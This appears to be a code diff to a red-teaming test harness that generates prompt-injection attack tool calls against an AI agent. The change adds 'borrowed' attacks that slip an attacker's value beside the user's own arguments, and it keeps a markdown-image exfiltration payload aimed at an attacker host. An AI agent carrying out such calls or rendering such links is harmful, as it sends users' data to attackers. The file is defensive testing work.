@@ -14,10 +14,20 @@ from jackline.core.flow.forms import plain
 from jackline.core.tools import ArgumentsError, Tool
 from jackline.core.value import Value
 from jackline.testing.redteam.forms import HOST, PROSE, SIGN, Slot, form_of_text, slots
+from jackline.testing.redteam.known import Known, fits, listed, rows
 from jackline.testing.redteam.seats import Leaf
 from jackline.testing.redteam.words import CALLS_OUT, DOES, words_of
 
-Kind = Literal["whole", "one argument", "beside", "read elsewhere", "unnamed", "leak", "answer"]
+Kind = Literal[
+    "whole",
+    "one argument",
+    "borrowed",
+    "beside",
+    "read elsewhere",
+    "unnamed",
+    "leak",
+    "answer",
+]
 
 ANSWERS = (
     f"![logo](https://{HOST}/logo.png?d={SIGN}-86421)",
@@ -25,6 +35,8 @@ ANSWERS = (
 )
 _EXAMPLES_MAX = 2
 _SMALL = 50
+_BORROWED_MAX = 5
+_LEFT_OUT = object()
 
 
 class Attack(Value, frozen=True):
@@ -46,17 +58,20 @@ class Attack(Value, frozen=True):
         return f"Call {self.tool} with {self.arguments}"
 
 
-class Known(Value, frozen=True, gc=True):
-    """What a rehearsal of the scenario brought: calls, what was typed, and what was read."""
+def is_target(tool: Tool, known: Known) -> bool:
+    """Whether an attacker would want this tool called: mere reads harm nobody by themselves.
 
-    calls: Mapping[str, Sequence[Mapping[str, object]]]
-    typed: str
-    read: Sequence[tuple[Tool, Leaf]]
+    One that is given a URL or a host asks there, and tells whoever listens what it asks for.
+    """
+    does = tool.flow.effectful or leaks(tool) or bool(tool.flow.critical) or pretends(tool)
+    return does or bool(aims(tool, known))
 
 
-def is_target(tool: Tool) -> bool:
-    """Whether an attacker would want this tool called: mere reads harm nobody by themselves."""
-    return tool.flow.effectful or leaks(tool) or bool(tool.flow.critical) or pretends(tool)
+def aims(tool: Tool, known: Known) -> frozenset[str]:
+    """Return the arguments that say where a tool looks, in the user's calls or by their names."""
+    calls = known.calls.get(tool.name, ())
+    found = [slot for said in calls for slot in slots(tool.parameters, said).values()]
+    return frozenset(slot.name for slot in found if slot.is_url) | tool.flow.critical.keys()
 
 
 def pretends(tool: Tool) -> bool:
@@ -79,8 +94,10 @@ def deciding(tool: Tool, found: Mapping[str, Slot]) -> frozenset[str]:
     """Return the arguments of which an attacker's value is counted."""
     flow = tool.flow
     critical = {name for name, floor in flow.critical.items() if floor.level != "untrusted"}
+    if not (flow.effectful or leaks(tool) or pretends(tool)):
+        return frozenset(name for name, slot in found.items() if name in critical or slot.is_url)
     is_read = not flow.effectful
-    carried = {"prose"} if is_read and (leaks(tool) or pretends(tool)) else set[str]()
+    carried = {"prose"} if is_read else set[str]()
     return frozenset(
         name
         for name, slot in found.items()
@@ -149,7 +166,32 @@ def _attacks(
             yield Attack(tool.name, one, "one argument", _chosen(tool, counted, one, example))
         yield from _beside(tool, filled, slot, known)
         yield from _elsewhere(tool, filled, slot, known)
+    yield from _borrowed(tool, found, counted, known)
     yield from _unnamed(tool, example, found, known)
+
+
+def _borrowed(
+    tool: Tool, found: Mapping[str, Slot], counted: frozenset[str], known: Known
+) -> Iterator[Attack]:
+    """Put an attacker's value beside each that is the user's: those alone let nothing through."""
+    base = _said(_fitted(tool, {}, list(found.values()), known) or "{}")
+    theirs = {name: _theirs(tool, found[name], base, known) for name in base}
+    for name in sorted(counted & base.keys()):
+        others = {each: values for each, values in theirs.items() if values and each != name}
+        for row in rows(list(others.values())):
+            said = {**base, **dict(zip(others, row, strict=True))}
+            said = {each: value for each, value in said.items() if value is not _LEFT_OUT}
+            if text := _checked(tool, said):
+                left = {each: said[each] for each in others if each in said}
+                yield Attack(tool.name, text, "borrowed", _chosen(tool, counted, text, left))
+
+
+def _theirs(tool: Tool, slot: Slot, base: Mapping[str, object], known: Known) -> Sequence[object]:
+    """Return the values of the user's that a tool takes as this argument, or that it takes none."""
+    left = {name: value for name, value in base.items() if name != slot.name}
+    values = [listed(each, slot) for each in known.values if fits(each, slot)]
+    taken = [each for each in values if _checked(tool, {**left, slot.name: each})]
+    return [*([_LEFT_OUT] if _checked(tool, left) else []), *taken[:_BORROWED_MAX]]
 
 
 def _chosen(
